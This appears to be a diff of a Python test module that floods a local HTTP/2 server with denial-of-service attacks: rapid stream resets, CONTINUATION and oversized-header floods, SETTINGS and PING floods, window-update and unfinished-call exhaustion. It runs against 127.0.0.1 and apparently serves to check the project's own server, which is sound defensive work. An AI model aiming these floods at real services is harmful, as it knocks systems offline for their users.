@@ -1,10 +1,9 @@
-"""Attacks by frames of HTTP/2 that no client library sends."""
+"""Attacks by frames of HTTP/2 that no client library sends. As call_attacks."""
 
 import contextlib
 import random
 import select
 import socket
-import ssl
 import threading
 
 import hpack
@@ -53,40 +52,32 @@ def read_ends(received, count):
 
 
 def read_messages(received, count):
-    """Reads frames of a file until so many messages of its one stream have come, each of which ends with its frame."""
+    """Reads frames of a file until so many messages of its one stream have come, with the last of which a frame ends."""
+    data = b""
     while count:
         head = received.read(9)
-        data = received.read(int.from_bytes(head[:3], "big")) if len(head) == 9 else b""
-        if len(head) < 9 or head[3] == RST_STREAM:
+        payload = received.read(int.from_bytes(head[:3], "big")) if len(head) == 9 else b""
+        if len(head) < 9 or head[3] == RST_STREAM or head[3] in (DATA, HEADERS) and head[4] & END_STREAM:
             raise ConnectionError("the stream ended")
-        while head[3] == DATA and data:
-            data = data[5 + int.from_bytes(data[1:5], "big"):]
+        if head[3] == DATA:
+            data += payload
+        while len(data) >= 5 and len(data) >= (end := 5 + int.from_bytes(data[1:5], "big")):
+            data = data[end:]
             count -= 1
 
 
-class Target:
-    """A server, or a front with a certificate of `authority`."""
-
-    def __init__(self, port, authority=None):
-        self._port = port
-        self._tls = authority and ssl.create_default_context(cafile=authority)
-        if self._tls:
-            self._tls.set_alpn_protocols(["h2"])
-
-    def connect(self, number):
-        """Attackers have addresses of their own: the honest caller's is 127.0.0.1."""
-        connection = socket.create_connection(("127.0.0.1", self._port), 5, (f"127.0.0.{2 + number}", 0))
-        if self._tls:
-            connection = self._tls.wrap_socket(connection, server_hostname="127.0.0.1")
-        connection.sendall(PREFACE + frame(SETTINGS))
-        return connection
+def connect(port, number):
+    """Attackers have addresses of their own; 127.0.0.1 is another caller's."""
+    connection = socket.create_connection(("127.0.0.1", port), 5, (f"127.0.0.{2 + number}", 0))
+    connection.sendall(PREFACE + frame(SETTINGS))
+    return connection
 
 
-def flood(target, stop, make, reads=False):
+def flood(port, stop, make, reads=False):
     """Sends what the iterator make() gives on four connections. Connects again whenever one ends."""
     def run(number):
         while not stop.is_set():
-            with contextlib.suppress(OSError), target.connect(number) as connection:
+            with contextlib.suppress(OSError), connect(port, number) as connection:
                 for data in make():
                     connection.sendall(data)
                     while reads and select.select([connection], [], [], 0)[0] and connection.recv(MEBIBYTE):
@@ -102,7 +93,7 @@ def repeated(*data):
         yield from data
 
 
-def rapid_reset(target, stop):
+def rapid_reset(port, stop):
     """Calls that are reset at once."""
     headers = block(CALL)
 
@@ -110,20 +101,20 @@ def rapid_reset(target, stop):
         for begin in range(1, 1 << 31, 200):
             yield b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, bytes((0, 0, 0, 8)))
                            for stream in range(begin, begin + 200, 2))
-    return flood(target, stop, make, reads=True)
+    return flood(port, stop, make, reads=True)
 
 
-def continuation_flood(target, stop):
+def continuation_flood(port, stop):
     """Headers without an end, in CONTINUATION frames."""
     more = frame(CONTINUATION, 0, 1, block([(b"x", b"y")] * (FRAME_BYTES // 5)))
 
     def make():
         yield frame(HEADERS, 0, 1, block(CALL))
         yield from repeated(more * 16)
-    return flood(target, stop, make)
+    return flood(port, stop, make)
 
 
-def hpack_continuation(target, stop):
+def hpack_continuation(port, stop):
     """One header of 64 MiB, in CONTINUATION frames."""
     size = 64 * MEBIBYTE
     begin = block(CALL) + b"\0\1x" + hpack.hpack.encode_integer(size, 7)
@@ -134,46 +125,46 @@ def hpack_continuation(target, stop):
         for _ in range(size // FRAME_BYTES // 16):
             yield more * 16
         yield frame(CONTINUATION, END_HEADERS, 1)
-    return flood(target, stop, make)
+    return flood(port, stop, make)
 
 
-def settings_flood(target, stop):
+def settings_flood(port, stop):
     """SETTINGS whose acknowledgements are not read."""
-    return flood(target, stop, lambda: repeated(frame(SETTINGS) * 1000))
+    return flood(port, stop, lambda: repeated(frame(SETTINGS) * 1000))
 
 
-def ping_flood(target, stop):
+def ping_flood(port, stop):
     """Pings whose answers are not read."""
-    return flood(target, stop, lambda: repeated(frame(PING, 0, 0, bytes(8)) * 1000))
+    return flood(port, stop, lambda: repeated(frame(PING, 0, 0, bytes(8)) * 1000))
 
 
-def empty_data(target, stop):
+def empty_data(port, stop):
     """DATA frames without data."""
     def make():
         yield frame(HEADERS, END_HEADERS, 1, block(CALL))
         yield from repeated(frame(DATA, 0, 1) * 1000)
-    return flood(target, stop, make, reads=True)
+    return flood(port, stop, make, reads=True)
 
 
-def window_updates(target, stop):
+def window_updates(port, stop):
     """Windows that grow by one byte at a time."""
     def make():
         yield frame(HEADERS, END_HEADERS, 1, block(CALL))
         yield from repeated(frame(WINDOW_UPDATE, 0, 1, bytes((0, 0, 0, 1))) * 1000)
-    return flood(target, stop, make, reads=True)
+    return flood(port, stop, make, reads=True)
 
 
-def random_frames(target, stop):
+def random_frames(port, stop):
     """Frames of random types, flags, streams and contents."""
     chance = random.Random(1)
 
     def make():
         for _ in range(100):
             yield frame(chance.randrange(12), chance.randrange(256), chance.randrange(4), chance.randbytes(chance.randrange(40)))
-    return flood(target, stop, make, reads=True)
+    return flood(port, stop, make, reads=True)
 
 
-def unfinished_calls(target, stop):
+def unfinished_calls(port, stop):
     """As many calls as a source may have, which do not end."""
     headers = block(CALL)
 
@@ -183,7 +174,7 @@ def unfinished_calls(target, stop):
                 if stop.is_set():
                     break
                 with contextlib.suppress(OSError):
-                    connection = stack.enter_context(target.connect(number))
+                    connection = stack.enter_context(connect(port, number))
                     for stream in range(1, 64, 2):
                         connection.sendall(frame(HEADERS, END_HEADERS, stream, headers) +
                                            frame(DATA, 0, stream, bytes(FRAME_BYTES)) * 2)
@@ -191,7 +182,7 @@ def unfinished_calls(target, stop):
     return [threading.Thread(target=run, args=(number,)) for number in range(4)]
 
 
-def unread_tables(target, stop):
+def unread_tables(port, stop):
     """Calls of one address, as many as it may have, whose answers are not read."""
     path, table = f"/{SERVICE.full_name}/GenerateTable", samples.table(count=2048, rotary_dim=128)
     calls = b"".join(call(stream, path, table) for stream in range(1, 64, 2))
@@ -200,7 +191,7 @@ def unread_tables(target, stop):
         with contextlib.ExitStack() as stack:
             for _ in range(CONNECTIONS):
                 with contextlib.suppress(OSError):
-                    connection = stack.enter_context(target.connect(0))
+                    connection = stack.enter_context(connect(port, 0))
                     connection.sendall(frame(SETTINGS, 0, 0, b"\0\4" + bytes(4)) + calls)  # no bytes of an answer
             stop.wait()
     return [threading.Thread(target=run)]
